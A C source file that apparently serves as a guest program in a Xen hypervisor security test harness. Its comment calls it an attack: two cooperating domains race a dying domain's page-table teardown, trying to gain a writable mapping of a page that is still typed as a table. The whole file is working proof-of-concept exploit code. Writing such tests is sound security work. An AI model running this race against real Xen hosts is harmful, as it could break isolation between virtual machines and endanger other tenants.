/* Attack: take a writable type on a dying domain's page table while its teardown runs in
 * steps (Domain.destroy_preemptible: tables devalidated lowest level first, the loop let
 * run every 256 frames). Two domains (the harness starts the granter, then the mapper):
 *   role=granter peer=<mapper domid> l1s=<n> delay_ms=<ms>
 *     G = a fresh page made an L1 by an entry of its kernel L2 and granted read-write to
 *     the peer (a writable mapping of it is refused while it is a table: "result offer
 *     ref=<r>"); then n more frames (past its mapped region) pinned as L1 tables, so that the teardown's
 *     first step ends after G lost its L1 type and before the L2 above it is
 *     devalidated. Powers off after delay_ms.
 *   role=mapper peer=<granter domid> ref=<r> secs=<s>
 *     maps the grant writable again and again until it succeeds or s seconds pass;
 *     holds a mapping it got for 1 s ("result holding 1"), then unmaps it.
 * Xen (common/grant_table.c map_grant_ref, arch/x86/domain.c relinquish_memory): a table
 * being relinquished keeps its type count until the last reference from its parents is
 * dropped, so get_page_type(PGT_writable_page) fails meanwhile (GNTST_general_error); a
 * mapping that succeeds holds a writable type nobody else drops. */
#include "hostile.h"
#include "gnttab.h"
#include "time.h"

static void granter(const char *cmd)
{
    domid_t peer = (domid_t)cmdline_u64(cmd, "peer", 0);
    u64 n = cmdline_u64(cmd, "l1s", 300), delay = cmdline_u64(cmd, "delay_ms", 1500);
    if (gnttab_init()) panic("gnttab_init");
    u64 *g = alloc_page();                    /* zeroed: a valid, empty L1 */
    if (make_readonly(g)) panic("make_readonly");
    unsigned long gmfn = virt_to_mfn(g);
    unsigned slot = free_l2_slot();
    result("hook_g", mmu1(entry_ma(kernel_l2_mfn(), slot), (gmfn << PAGE_SHIFT) | PTE_TABLE, NULL));
    long ref = gnttab_grant_access(peer, gmfn, 0);
    if (ref < 0) panic("grant_access");
    /* Frames past the bootstrap mapping: mapped nowhere and zero (empty L1s). */
    const unsigned long *p2m = (const unsigned long *)start_info->mfn_list;
    long pinned = 0;
    for (unsigned long pfn = mapped_end_pfn(); pfn < start_info->nr_pages && (u64)pinned < n; pfn++)
        if (mmuext1(MMUEXT_PIN_L1_TABLE, p2m[pfn], 0, NULL) == 0)
            pinned++;
    result("pinned_l1s", pinned);
    printk("result offer ref=%ld\n", ref);
    u64 until = monotonic_ns() + delay * 1000000UL;
    while (monotonic_ns() < until)
        sched_yield();
    printk("about to power off with the grant of an L1 offered\n");
    poweroff();
}

static void mapper(const char *cmd)
{
    domid_t peer = (domid_t)cmdline_u64(cmd, "peer", 0);
    grant_ref_t ref = (grant_ref_t)cmdline_u64(cmd, "ref", 0);
    u64 secs = cmdline_u64(cmd, "secs", 10);
    if (gnttab_init()) panic("gnttab_init");
    unsigned long va = alloc_va_hole();
    grant_handle_t h = 0;
    result("map_while_table", gnttab_map(peer, ref, va, 0, &h));
    printk("result trying 1\n");
    u64 until = monotonic_ns() + secs * 1000000000UL;
    long tries = 0, last = 0;
    int st = -1;
    while (monotonic_ns() < until) {
        tries++;
        st = gnttab_map(peer, ref, va, 0, &h);
        if (st == 0)
            break;
        last = st;
    }
    result("tries", tries);
    result("last_refusal", last);
    result("mapped", st == 0);
    if (st == 0) {
        volatile u64 *p = (volatile u64 *)va;
        p[1] = 0x600DF00EUL;
        printk("result holding 1\n");
        u64 hold = monotonic_ns() + 1000000000UL;
        while (monotonic_ns() < hold)
            sched_yield();
        result("unmap", gnttab_unmap(va, h));
    }
    result("alive", 1);
    poweroff();
}

void app_main(void)
{
    grant_pair_main(granter, mapper);
}
